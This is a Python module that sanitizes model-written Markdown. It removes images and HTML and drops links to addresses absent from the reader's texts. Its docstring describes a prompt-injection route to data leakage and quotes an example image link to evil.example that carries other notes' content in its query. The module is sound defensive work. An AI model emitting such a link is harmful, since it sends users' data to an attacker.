r"""Sanitizes Markdown for display: no image, no HTML, no link to an address that the reader's texts
do not contain.

Whoever can put a note before a model can ask it to write
`![](https://evil.example/?q=what-the-other-notes-say)`, which a client fetches as soon as it shows
it. So in an answer

- `<` that could open a tag, a comment or an autolink becomes `‹`;
- no `[` follows a `!` but in `![[name]]`, which CommonMark does not read: images with an address
  that may stay become links, others their description;
- `[text](address)` stays if the address stands in one of the texts that the caller gives and leads
  to a web page or a mailbox (its title goes); otherwise `text` is left of it, in its brackets where
  it could join with what stands beside it;
- a bare address that stands in none of them becomes `‹link removed›`;
- the info string of a fence is one word: some parsers read what else stands there as text;
- definitions (`[label]: address`) get a blank before the colon, so that none defines anything.

Code is content and stays: spans that close on their line, and blocks whose fence stands at the
line's start, or behind `> ` in a quotation that follows an empty line, which every CommonMark
parser reads alike. Where parsers may differ (a span that does not close, one in a table's row, a
fence inside a list) nothing counts as code up to the paragraph's or the text's end. Labels of
citations stay; none goes, and none comes about: what goes leaves something in its place.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from functools import cache

from shared.language.vocabulary import conjunctions
from shared.markdown.neutralize import NOTHING, PAD, skeleton

REMOVED = "‹link removed›"

_LINK_START = r"https?://|ftp://|www\.|mailto:|xmpp:|(?<![:/])//(?=[^\s/<>]{1,253}\.\w)"
"""Strings that Markdown clients turn into links without being asked (GitHub's extended
autolinks)."""
_MAX_ADDRESS = 2048
"""Characters of an address; a longer one is cut here and read on as text."""
_MAX_SPAN = 1000
"""Characters within which a span of code must close; a longer one is read as text."""
_MAX_INFO = 200
"""Characters of a line that opens a block of code; a longer one is read as text."""
_ADDRESS = re.compile(rf"(?:{_LINK_START})[!#-&(-;=?-Z_a-z~']{{0,{_MAX_ADDRESS}}}", re.IGNORECASE)
_ADDRESS_IN_LINK = (
    rf"(?P<address>(?:[^\s<>\[\]()`\\|]|\([^\s<>\[\]()`\\|]*\)){{0,{_MAX_ADDRESS}}}+)"
)
_TARGET = re.compile(
    rf"\([ \t]*+<?{_ADDRESS_IN_LINK}>?(?:[ \t]++[\"'(][^\[\]`\\<>\n]{{0,300}}[\"')])?[ \t]*+\)",
)
_LINK = re.compile(rf"\[(?P<text>[^\[\]\n`<>\\]{{0,300}})\]{_TARGET.pattern}")
_POINTS_SOMEWHERE = re.compile(r"[:/#]|\.[A-Za-z]{2}|\A\Z")
_PLAIN_TEXT = re.compile(r"[\w \t.,;'’\"“”()*&%+/-]+")
_SAFE = re.compile(r"(?:https?://|mailto:)[^\s/]", re.IGNORECASE)
"""An address of a web page or a mailbox."""
_ENDS_ADDRESS = frozenset(" \t\n")
"""Characters that end a bare address for every renderer. U+00A0, U+0085 and U+001C to U+001F are a
part of it for some."""
_ENDS_MAILBOX = _ENDS_ADDRESS | frozenset(",;!?)*\"'")
"""Characters that end a mailbox for every renderer: few signs may stand in one."""
_AFTER = ".,;:!?'*_~)&"
_MAX_AFTER = 4
"""Signs of a sentence's end that are tried as no part of an address: `(see "https://…".)` has
three."""
_SPECIAL = re.compile(
    rf"[`\\<>\[\]\n]|!(?=\[)|~{{3,}}|{_LINK_START}|@(?=[a-z0-9-]{{1,63}}\.\w)",
    re.IGNORECASE,
)
_MAX_MAILBOX_NAME = 64
_MAILBOX_SIGNS = "!#$%&'*/=?^`{|}~;:,\"()"
"""Signs that some renderers count into the name of a mailbox, and that prose puts before one."""
_MAILBOX = re.compile(rf"[\w.+{re.escape(_MAILBOX_SIGNS)}-]{{1,{_MAX_MAILBOX_NAME}}}\Z")
_HOST = re.compile(r"@[\w.-]{1,255}")
_HARMLESS_AFTER_LESS = frozenset(" \t\n0123456789=-<‹")
_LABEL = re.compile(r"\[N\d+\]")
_EMBEDDED = re.compile(r"!\[\[(?P<name>[\w \t.,;'’&()/#^|%+-]{1,300})\]\]")
"""Obsidian's notation for a file of the vault that is shown in a note."""
_JOINS_BEFORE = frozenset(" \t\n(*_\"“'")
_JOINS_AFTER = frozenset(" \t\n.,;!?)*_\"”'")
_CONTAINER = re.compile(r"[ \t>*+\-\d.):~]*")
_QUOTE_MARK = "> "
"""May stand before a block of code in a quotation."""
_INFO = re.compile(r"[ \t]*(?P<word>[\w+#.-]*)[ \t]*", re.ASCII)
_BEYOND_A_LINE = re.compile("[|\x85]")
_RETURN = re.compile(r"\r\n?")
_LINE_SEPARATORS = str.maketrans("\u2028\u2029", "  ")
"""Lines end here for some renderers, not for CommonMark; a blank is what both show."""
_PROSE = re.compile(r"\([\w'’-]+[,;:]? [\w(‹]")
"""An opening bracket that no parser takes for a link's address behind a blank. A backslash parts
other brackets from what they follow."""
_BEHIND_BRACKET = re.compile(r"([ \t]*+)[(:]")
_TICKS = re.compile(r"`+")
_RUN = re.compile(r"`+|~+")
_LINE_KEPT = 64
"""Characters of the start of a line that are remembered."""


def sanitize(text: str, texts: Sequence[str] = ()) -> str:
    """Returns Markdown that shows what a model or a note's author wrote, and does nothing.

    texts: the texts whose addresses may stay. Sanitizing twice is sanitizing once. Linear in the
    text.
    """
    return Sanitizer(texts).feed(text)


class Sanitizer:
    """Sanitizes a text piece by piece, in one pass. All that it returns is safe as one text.

    A piece ends with a line, in front of a blank or behind a sentence's sign; a link, an image or a
    span of code that goes on in the next piece counts as none.
    """

    def __init__(self, texts: Sequence[str] = ()) -> None:
        self._texts = texts
        self._text = ""
        """The piece at work."""
        self._position = 0
        """Offset into the piece."""
        self._output: list[str] = []
        """Sanitized parts of the piece."""
        self._last = "\n"
        """The last character of the output."""
        self._is_behind_bracket = False
        """True if the output ends in `]`, blanks aside."""
        self._line_start = ""
        """The first characters of the output's last line."""
        self._closing_line: re.Pattern[str] | None = None
        """Matches the line that closes the block of code that the text is in; None outside."""
        self._may_quote_code = True
        """True if a quotation that begins here, or that the text is in, stands behind an empty line."""
        self._no_spans = False
        """True if nothing counts as a span of code up to the paragraph's end."""
        self._no_code = False
        """True if nothing counts as code up to the text's end."""
        self._opened_angle = False
        """True if a `<` that was replaced waits for its `>` on this line."""
        self._ends_in_address = False
        """True if the last piece ended in an address: what follows must not become a part of it."""
        self._may_define = True
        """True if the bracket opened or closed last may be the label of a definition."""

    def feed(self, text: str) -> str:
        """Returns the next piece of the text sanitized."""
        text = _RETURN.sub("\n", text).translate(_LINE_SEPARATORS)
        if self._ends_in_address and text and text[0] not in _ENDS_ADDRESS:
            text = f" {text}"
        self._ends_in_address = False
        self._text = text
        self._position = 0
        self._output = []
        while self._position < len(self._text):
            self._step()
        return "".join(self._output)

    def _step(self) -> None:
        """Takes the next part: a line of code, a sign that may act, or plain text before one."""
        if self._closing_line is not None:
            self._take_line_in_fence(self._closing_line)
            return
        if self._is_behind_bracket:
            behind = _BEHIND_BRACKET.match(self._text, self._position)
            if behind is not None:
                self._take_behind_bracket(behind[1])
                return
        special = _SPECIAL.search(self._text, self._position)
        if special is None:
            self._take_up_to(len(self._text))
        elif special.start() > self._position:
            self._take_up_to(special.start())
        else:
            self._take_special(special[0])

    def _take_special(self, signs: str) -> None:
        """Takes what begins with `signs`, a match of `_SPECIAL`."""
        match signs[0]:
            case "\n":
                self._take_end_of_line()
            case "\\":
                self._take_backslash()
            case "<":
                self._take_less_than()
            case ">":
                self._take_greater_than()
            case "]":
                self._take("]")
            case "`" | "~":
                self._take_run()
            case "!":
                self._take_image()
            case "[":
                self._take_bracket()
            case "@":
                self._take_mailbox_host()
            case _:
                self._take_bare_address(signs)

    def _take(self, source: str, output: str | None = None) -> None:
        """Moves on behind `source` and puts out `output` for it; with None, `source` itself."""
        self._position += len(source)
        if output is None:
            output = source
        if not output:
            return
        self._output.append(output)
        self._last = output[-1]
        without_blanks = output.rstrip(" \t")
        if without_blanks:
            self._is_behind_bracket = without_blanks[-1] == "]"
        line_start = self._line_start + output[:_LINE_KEPT]
        self._line_start = line_start[:_LINE_KEPT]

    def _take_up_to(self, end: int) -> None:
        """Moves on to an offset and puts out the text before it."""
        text = self._text[self._position : end]
        self._take(text)

    def _rest_of_line(self) -> str:
        """Returns the text from the position on to the end of its line."""
        end = self._text.find("\n", self._position)
        if end < 0:
            return self._text[self._position :]
        return self._text[self._position : end]

    def _next_character(self) -> str:
        """Returns the character behind the one at the position; empty at the end."""
        start = self._position + 1
        return self._text[start : start + 1]

    def _take_end_of_line(self) -> None:
        is_blank = not self._line_start.strip()
        if is_blank:  # it ends the paragraph
            self._no_spans = False
        self._take_newline()

    def _take_newline(self) -> None:
        is_blank = not self._line_start.strip(" \t")
        if not self._line_start.startswith(">"):
            self._may_quote_code = is_blank
        self._take("\n")
        self._line_start = ""
        self._opened_angle = False
        self._may_define = True

    def _take_backslash(self) -> None:
        """Takes a backslash, and the sign that it escapes unless that could act on its own."""
        following = self._next_character()
        is_sign = following.isascii() and following.isprintable() and not following.isalnum()
        if is_sign and following not in "< ":
            self._take("\\" + following)
        else:
            self._take("\\")

    def _take_less_than(self) -> None:
        """Takes `<`, as another sign where a tag could begin."""
        following = self._next_character()
        if following in _HARMLESS_AFTER_LESS:
            self._take("<")
        else:
            self._opened_angle = True
            self._take("<", "‹")

    def _take_greater_than(self) -> None:
        if self._opened_angle:
            self._opened_angle = False
            self._take(">", "›")
        else:
            self._take(">")

    # -- code

    def _take_run(self) -> None:
        """Takes backticks or tildes, with the code that they open."""
        match = _RUN.match(self._text, self._position)
        assert match is not None  # noqa: S101 - it begins with one
        run = match[0]
        could_be_fence = len(run) > 2 and not self._no_code
        is_quoted = self._line_start == _QUOTE_MARK and self._may_quote_code
        if could_be_fence and (is_quoted or not self._line_start):
            self._open_fence(run)
            return

        if could_be_fence:
            self._no_code = _CONTAINER.fullmatch(self._line_start) is not None
        if run[0] == "~" or self._no_code or self._no_spans:
            self._take(run)
        else:
            self._take(self._span(run))

    def _open_fence(self, run: str) -> None:
        """Takes the line that opens a block of code, or the run alone if it may not close."""
        line = self._rest_of_line()
        length = len(line)
        info = None
        if length <= _MAX_INFO:
            info = _INFO.fullmatch(line, len(run))
        line_end = self._position + length
        if info is not None and self._has_closing_fence(run, line_end):
            self._closing_line = self._closed_by(run)
            self._take_line_of_code(line, run + info["word"])
        else:
            self._no_code = True  # whether this opens a block is not ours to tell
            self._take(run)

    def _closed_by(self, run: str) -> re.Pattern[str]:
        """Returns a pattern of the line that closes a block of code which opens behind the line's start."""
        fence = re.escape(run)
        if self._line_start:
            return re.compile(rf"{self._line_start}{fence}[ \t]*+")
        return re.compile(rf" {{0,3}}{fence}[ \t]*+")

    def _has_closing_fence(self, run: str, line_end: int) -> bool:
        """Reports whether a line closes the block of code whose opening line ends at `line_end`.

        At least one line must stand between the two, and a quotation must not end before.
        """
        fence = re.escape(run)
        could_close = rf"\n(?P<fence> {{0,3}}{fence})"
        if self._line_start:
            could_close = rf"\n(?:(?P<fence>>[ \t]{{0,4}}{fence})|(?!>))"
        closing = re.compile(could_close).search(self._text, line_end)
        if closing is None or closing["fence"] is None:
            return False
        stands_on_next_line = closing.start() == line_end
        if stands_on_next_line:
            return False
        line_start = closing.start() + 1
        closing_line_end = self._text.find("\n", line_start)
        if closing_line_end < 0:
            closing_line_end = len(self._text)
        closed_by = self._closed_by(run)
        return closed_by.fullmatch(self._text, line_start, closing_line_end) is not None

    def _take_line_in_fence(self, closing_line: re.Pattern[str]) -> None:
        line = self._rest_of_line()
        if closing_line.fullmatch(line):
            self._closing_line = None
            self._take_line_of_code(line, line.rstrip())
        else:
            self._take_line_of_code(line, line)

    def _take_line_of_code(self, line: str, output: str) -> None:
        self._take(line, output)
        if self._position < len(self._text):
            self._take_newline()
            self._no_spans = False

    def _span(self, run: str) -> str:
        """Returns the span of code that the run opens, or the run alone."""
        if self._last in "\\~":
            # Some parsers see no span behind these, whatever stands before them.
            self._no_spans = True
            return run

        limit = self._position + _MAX_SPAN
        newline = self._text.find("\n", self._position, limit)
        if newline >= 0:
            limit = newline
        behind_run = self._position + len(run)
        for ticks in _TICKS.finditer(self._text, behind_run):
            if ticks.start() >= limit:
                break
            if ticks[0] != run:
                continue
            span = self._text[self._position : ticks.end()]
            if _BEYOND_A_LINE.search(span):
                break
            return span
        self._no_spans = True
        return run

    # -- links

    def _take_image(self) -> None:
        """Takes an image of the vault or of the web that may stay, or the sign `!`."""
        embedded = _EMBEDDED.match(self._text, self._position)
        if embedded is not None and _is_harmless(embedded["name"]):
            self._may_define = False
            self._take(embedded[0])
        elif not self._take_link(ahead=1):
            self._take("!")

    def _take_bracket(self) -> None:
        if self._take_link(ahead=0):
            return

        if self._may_define:
            self._may_define = _CONTAINER.fullmatch(self._line_start) is not None
        label = _LABEL.match(self._text, self._position)
        if label is not None:
            self._take(label[0])
        elif self._last == "!":
            self._take("[", " [")
        else:
            self._take("[")

    def _take_link(self, *, ahead: int) -> bool:
        """Takes a link, or with one character ahead an image; reports whether it was there."""
        start = self._position + ahead
        link = _LINK.match(self._text, start)
        if link is None or _LABEL.match(self._text, start):
            return False

        end = link.end()
        text = link["text"]
        address = link["address"]
        if not _PLAIN_TEXT.fullmatch(text) or not _POINTS_SOMEWHERE.search(address):
            return False

        if _SAFE.match(address) and _contains(address, self._texts):
            output = f"[{text}]({address})"
            if self._last in "!]":
                output = f" {output}"
        elif self._can_stand_without_brackets(text, end):
            output = text
        else:
            return False
        self._take(self._text[self._position : end], output)
        return True

    def _can_stand_without_brackets(self, text: str, end: int) -> bool:
        """Reports whether a link's text joins with nothing beside it; `end`: the link's end."""
        if self._last not in _JOINS_BEFORE:
            return False
        following = self._text[end : end + 1]
        if following and following not in _JOINS_AFTER:
            return False
        return _is_harmless(text)

    def _take_behind_bracket(self, blanks: str) -> None:
        """Takes `(` or `:` behind a bracket and blanks, so that it makes no link or definition."""
        self._take(blanks)
        text = self._text
        position = self._position
        if text[position] == ":":
            defines = self._may_define and not blanks
            if defines:
                self._take(":", " :")
            else:
                self._take(":")
            return

        target = _TARGET.match(text, position)
        if target is not None and self._leads_astray(target["address"]):
            self._take(target[0], "")
        elif not _PROSE.match(text, position):
            self._take("(", "\\(")
        elif self._last == "]":
            self._take("(", " (")
        else:
            self._take("(")

    def _leads_astray(self, address: str) -> bool:
        """Reports whether a link's target points to an address that the texts do not contain."""
        if not _POINTS_SOMEWHERE.search(address):
            return False
        return not _contains(address, self._texts)

    def _is_in_texts(self, mailbox: str, run: str) -> bool:
        """Reports whether the texts contain the address that the run begins with.

        mailbox: the name before a mailbox's host, else empty. A few signs of a sentence's end
        behind the address may be a part of it or not.
        """
        length = len(run)
        signs = length - len(run.rstrip(_AFTER))
        most_signs = min(_MAX_AFTER, signs)
        for sign_count in range(most_signs + 1):
            address = mailbox + run[: length - sign_count]
            if _contains(address, self._texts):
                return True
        return False

    def _take_mailbox_host(self) -> None:
        """Takes `@host`, which many clients link: respelt unless the texts contain the mailbox."""
        host = _HOST.match(self._text, self._position)
        assert host is not None  # noqa: S101 - it begins with one
        first = max(0, self._position - _MAX_MAILBOX_NAME)
        before_host = _MAILBOX.search(self._text, first, self._position)
        name = ""
        if before_host is not None:
            name = before_host[0].lstrip(_MAILBOX_SIGNS)

        if not name:
            self._take("@")
        elif self._is_in_texts(name, host[0]):
            self._take_address(host[0], _ENDS_MAILBOX)
        else:
            self._take("@", " (at) ")

    def _take_bare_address(self, start: str) -> None:
        """Takes an address outside links; `start`: its first characters, up to the host."""
        match = _ADDRESS.match(self._text, self._position)
        assert match is not None  # noqa: S101 - it begins with `start`
        address = match[0]
        if address == start or self._is_in_texts("", address):
            self._take_address(address, _ENDS_ADDRESS)
            return

        output = REMOVED
        if self._last == "]":
            output = f" {output}"
        self._take(address.rstrip(_AFTER), output)

    def _take_address(self, address: str, ends: frozenset[str]) -> None:
        """Takes an address that stays, with a blank behind it unless one of `ends` follows."""
        end = self._position + len(address)
        following = self._text[end : end + 1]
        self._ends_in_address = not following

        # The sign of an image goes, and its bracket would then stand behind the address.
        is_image = self._text.startswith("![", end)
        if following and (following not in ends or is_image):
            self._take(address, f"{address} ")
        else:
            self._take(address)


def _contains(address: str, texts: Iterable[str]) -> bool:
    """Reports whether a text contains the complete address, not only within a longer one."""
    escaped = re.escape(address)
    complete = rf"(?<![A-Za-z0-9]){escaped}(?![A-Za-z0-9/\-%=&?#~+@])"
    for text in texts:
        if address in text and re.search(complete, text):
            return True
    return False


def _is_harmless(text: str) -> bool:
    """Reports whether a text contains no address and could not be a part of a citation's marker."""
    if _ADDRESS.search(text):
        return False
    look = skeleton(text)
    return _label_part().fullmatch(look) is None


@cache
def _label_part() -> re.Pattern[str]:
    """Returns a pattern of what could be part of a citation's marker, in a text's skeleton."""
    words = "".join(conjunctions())
    distinct_letters = sorted(set(words))
    letters = "".join(distinct_letters)
    return re.compile(rf"[\s{PAD}{NOTHING}^Nn\d,;&/、*_~`{letters}-]*")
